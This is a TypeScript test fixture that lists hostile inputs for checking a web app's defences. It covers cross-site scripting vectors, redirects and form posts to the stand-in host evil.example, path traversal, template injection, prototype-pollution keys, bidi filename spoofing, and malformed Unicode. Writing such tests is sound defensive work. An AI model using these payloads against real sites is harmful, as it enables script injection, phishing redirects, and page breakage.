/**
 * Inputs that try to run a script, to leave the site, or to break a page. Everything that
 * readers, links, storage, services, or data files can contain is tried with all of them.
 * A script that runs sets `window.hacked`.
 */
export const payloads: Readonly<Record<string, string>> = {
  'a script': '<script>hacked=1</script>',
  'an image with a handler': '<img src=x onerror=hacked=1>',
  'an SVG with a handler': '<svg/onload=hacked=1>',
  'a frame with a script URL': '<iframe src="javascript:parent.hacked=1"></iframe>',
  'a form that leaves the site': '<form action=//evil.example><button>Log in</button></form>',
  'a base URL': '<base href="//evil.example/">',
  'a refresh': '<meta http-equiv=refresh content="0;url=//evil.example">',
  styles: '<style>*{display:none}</style>',
  'the end of an attribute': '" autofocus onfocus="hacked=1',
  'the end of a quoted attribute': "' onmouseover='hacked=1",
  'the end of a script': '</script><script>hacked=1</script>',
  'the end of a string': '";hacked=1;//',
  'the end of a comment': '--><script>hacked=1</script>',
  'the end of CDATA': ']]><script xmlns="http://www.w3.org/1999/xhtml">hacked=1</script>',
  'the end of a style': '}</style><script>hacked=1</script>',
  'a highlight tag with a handler': '<mark onclick=hacked=1>word</mark>',
  'an escaped tag': '&lt;img src=x onerror=hacked=1&gt;',
  'a percent-encoded tag': '%3Cimg%20src%3Dx%20onerror%3Dhacked%3D1%3E',
  'a script URL': 'javascript:hacked=1',
  'a script URL in mixed case': 'JaVaScRiPt:hacked=1',
  'a script URL with a tab': 'java\tscript:hacked=1',
  'a script URL after a control character': '\u0001javascript:hacked=1',
  'a data URL': 'data:text/html,<script>hacked=1</script>',
  'a URL without a protocol': '//evil.example/',
  'a URL with a backslash': '/\\evil.example/',
  'a path that goes up': '../../../../evil',
  'a template': `{{constructor.constructor("hacked=1")()}}\${hacked=1}`,
  'an import': 'import x from "//evil.example/x.js"; {hacked=1}',
  'the prototype': '__proto__',
  'the constructor': 'constructor',
  'an object with a prototype':
    '{"__proto__":{"hacked":1},"constructor":{"prototype":{"hacked":1}}}',
  'broken percent-encoding': '%E0%A4%A',
  'half a character': '\ud800',
  'a null character': 'a\u0000b',
  'characters that reverse text': '\u202Egnp.exe',
  'a regular expression': '(a+)+$[\\',
  'a very long word': `${'a'.repeat(50_000)}!`,
};

/** The payloads as rows for `it.each`: description, input. */
export const rows: readonly (readonly [string, string])[] = Object.entries(payloads);
